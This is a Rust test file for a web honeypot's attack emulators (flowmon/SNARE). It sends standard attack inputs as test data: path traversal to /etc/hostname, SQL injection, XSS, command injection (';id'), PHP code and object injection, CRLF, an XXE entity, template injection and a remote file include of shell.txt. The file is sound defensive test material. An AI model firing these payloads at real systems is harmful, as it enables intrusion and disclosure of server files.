//! Each emulator over real HTTP through the SNARE service, with exact payloads; `--emulate`;
//! a host profile; `--rfi-fetch` from a local server (a sample stored, its PHP evaluated) and,
//! by default, never from a private address.

use std::{
    collections::BTreeSet,
    io::{Read as _, Write as _},
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use flowmon::{
    emulation::{EmulationConfig, Kind, Profile, RfiFetchConfig, host::Host},
    snare::SnareConfig,
};
use flowmon_tests::{
    process::TempDir,
    snare_service::{TestService, config, scanner_get as get, scanner_post as post},
};
use serde_json::{Value, json};

const SENSOR: &str = "9c10172f-7ce2-4fb4-b1c6-abc70141db56";
const ID_LINE: &str = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";
/// md5("flowmon")
const FLOWMON_MD5: &str = "a4e1b6b2603987a83a8056b70842eee5";

fn detection(service: &TestService, event: &Value) -> Value {
    service.post_event(event)["detection"].clone()
}

fn host() -> Host {
    Host::new(&Profile::default(), SENSOR)
}

#[test]
fn each_emulator_answers_over_http() {
    let service = TestService::start(config());
    let hostname = format!("{}\n", host().hostname);
    let line = host().script_line("/var/www/html/page.php");
    let content = |value: &str, page: Option<&str>| match page {
        Some(page) => json!({"value": value, "page": page}),
        None => json!({"value": value, "page": false}),
    };
    // The session's first HTML page, where page answers are shown.
    service.post_event(&get("/about.html"));
    let cases: Vec<(Value, &str, Value)> = vec![
        (
            get("/page.php?file=../../../etc/hostname"),
            "lfi",
            content(&hostname, None),
        ),
        (
            get("/item.php?id=-1%20UNION%20SELECT%201337,2,3,4"),
            "sqli",
            content("[1337, 2, 3, 4]", Some("/about.html")),
        ),
        (
            get("/item.php?q=1'%20OR%20'1'='1"),
            "sqli",
            content("SQL ERROR: near q: syntax error", Some("/about.html")),
        ),
        (
            get("/search?q=%3Cb%3Ex%3C/b%3E&r=%3Ci%3E"),
            "xss",
            content("<b>x</b>\n<i>", Some("/about.html")),
        ),
        (
            get("/ping.php?host=127.0.0.1%3Bid"),
            "cmd_exec",
            content(ID_LINE, Some("/about.html")),
        ),
        (
            get("/eval.php?code=print(md5(%22flowmon%22))"),
            "php_code_injection",
            content(FLOWMON_MD5, None),
        ),
        (
            get(
                "/cart?data=O:15:%22ObjectInjection%22:1:%7Bs:6:%22insert%22%3Bs:6:%22whoami%22%3B%7D",
            ),
            "php_object_injection",
            content("www-data\n", None),
        ),
        (
            get("/go?next=/home%0D%0ASet-Cookie:%20a=1"),
            "crlf",
            json!({"value": "", "page": "/about.html",
                   "headers": {"next": "/home", "Set-Cookie": "a=1"}}),
        ),
        (
            // Posted: in a query, Tanner's decoding of the whole path would split at `&x;`.
            post(
                "/api",
                json!({"xml": "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>"}),
            ),
            // Every XML document fires xss first (Tanner's order): its entities are loaded.
            "xss",
            content(&hostname, Some("/about.html")),
        ),
        (
            get("/render?name=Hello%20%7B%7B7*7%7D%7D"),
            "template_injection",
            content("Hello 49", Some("/about.html")),
        ),
        (
            get("/render?name=%7B%7B7*%7D%7D"),
            "template_injection",
            json!({"status_code": 500}),
        ),
        (
            get("/page.php?inc=http://203.0.113.9/shell.txt"),
            "rfi",
            content(
                &format!(
                    "\nWarning: include(http://203.0.113.9/shell.txt): failed to open stream: \
                     Connection refused in /var/www/html/page.php on line {line}\n\nWarning: \
                     include(): Failed opening 'http://203.0.113.9/shell.txt' for inclusion \
                     (include_path='.:/usr/share/php') in /var/www/html/page.php on line {line}\n"
                ),
                None,
            ),
        ),
    ];
    for (event, name, payload) in &cases {
        let detection = detection(&service, event);
        assert_eq!(detection["name"], *name, "{event}");
        assert_eq!(detection["payload"], *payload, "{event}");
        let kind = if payload.get("status_code").is_some() {
            3
        } else {
            2
        };
        assert_eq!(detection["type"], kind, "{event}");
    }
}

#[test]
fn emulate_lists_the_types_answered() {
    let service = TestService::start(SnareConfig {
        emulation: EmulationConfig {
            enabled: BTreeSet::from([Kind::Lfi]),
            ..EmulationConfig::default()
        },
        ..config()
    });
    let lfi = detection(&service, &get("/p?f=/etc/issue"));
    assert_eq!(lfi["payload"]["value"], "Debian GNU/Linux 11 \\n \\l\n\n");
    let sqli = detection(&service, &get("/p?id=1%20UNION%20SELECT%201"));
    assert_eq!(
        sqli,
        json!({"name": "sqli", "order": 2, "type": 1, "version": "0.6.0"})
    );
}

#[test]
fn a_profile_shapes_the_host() {
    let dir = TempDir::new("emulation-profile");
    let path = dir.path().join("host.toml");
    std::fs::write(
        &path,
        "hostname = \"shop-db-2\"\nweb-user = \"apache\"\nweb-uid = 48\n",
    )
    .unwrap();
    let profile = Profile::load(&path).unwrap();
    let service = TestService::start(SnareConfig {
        emulation: EmulationConfig {
            profile,
            ..EmulationConfig::default()
        },
        ..config()
    });
    let answer = detection(&service, &get("/ping.php?h=%3Bhostname%3Bid"));
    assert_eq!(
        answer["payload"]["value"],
        "shop-db-2\nuid=48(apache) gid=48(apache) groups=48(apache)\n"
    );
}

/// A web server on loopback that answers every request with `body`, counting connections.
fn file_server(body: &'static str) -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connections = Arc::new(AtomicUsize::new(0));
    let counted = connections.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            counted.fetch_add(1, Ordering::SeqCst);
            let mut request = [0; 4096];
            let _ = stream.read(&mut request);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, connections)
}

#[test]
fn rfi_fetch_stores_the_sample_and_evaluates_its_php() {
    const SHELL: &str = "<?php echo md5(\"flowmon\"); ?> and text";
    let (port, connections) = file_server(SHELL);
    let state = TempDir::new("emulation-rfi");
    let service = TestService::start(SnareConfig {
        emulation: EmulationConfig {
            rfi_fetch: Some(RfiFetchConfig {
                // The test's server is on loopback, which fetching refuses otherwise.
                allow_private: true,
                timeout: Duration::from_secs(5),
                ..RfiFetchConfig::new(state.path())
            }),
            ..EmulationConfig::default()
        },
        ..config()
    });
    let url = format!("http://127.0.0.1:{port}/shell.txt?");
    let answer = detection(&service, &get(&format!("/page.php?inc={url}")));
    assert_eq!(
        answer["payload"],
        json!({"value": format!("{FLOWMON_MD5} and text"), "page": false})
    );
    assert_eq!(connections.load(Ordering::SeqCst), 1);
    let sha256 = flowmon_sha256(SHELL.as_bytes());
    assert_eq!(
        std::fs::read_to_string(state.path().join("samples").join(&sha256)).unwrap(),
        SHELL
    );
    let (_, ended) = service.shutdown();
    let samples = &ended[0].emulation.samples;
    assert_eq!(samples.len(), 1);
    assert_eq!(
        (
            samples[0].url.as_str(),
            samples[0].sha256.as_str(),
            samples[0].bytes
        ),
        (url.as_str(), sha256.as_str(), SHELL.len() as u64)
    );
}

#[test]
fn by_default_nothing_is_fetched_and_never_from_a_private_address() {
    let (port, connections) = file_server("<?php echo 1; ?>");
    let state = TempDir::new("emulation-rfi-private");
    for rfi_fetch in [None, Some(RfiFetchConfig::new(state.path()))] {
        let service = TestService::start(SnareConfig {
            emulation: EmulationConfig {
                rfi_fetch,
                ..EmulationConfig::default()
            },
            ..config()
        });
        let answer = detection(
            &service,
            &get(&format!("/page.php?inc=http://127.0.0.1:{port}/x.txt")),
        );
        let value = answer["payload"]["value"].as_str().unwrap();
        assert!(
            value.contains("failed to open stream: Connection refused"),
            "{value}"
        );
    }
    assert_eq!(connections.load(Ordering::SeqCst), 0);
    assert!(!state.path().join("samples").exists());
}

/// SHA-256 in hex, as the samples are named.
fn flowmon_sha256(data: &[u8]) -> String {
    use std::process::Command;
    let dir = TempDir::new("sha256");
    let file = dir.path().join("data");
    std::fs::write(&file, data).unwrap();
    let out = Command::new("sha256sum").arg(&file).output().unwrap();
    String::from_utf8(out.stdout).unwrap()[..64].to_owned()
}
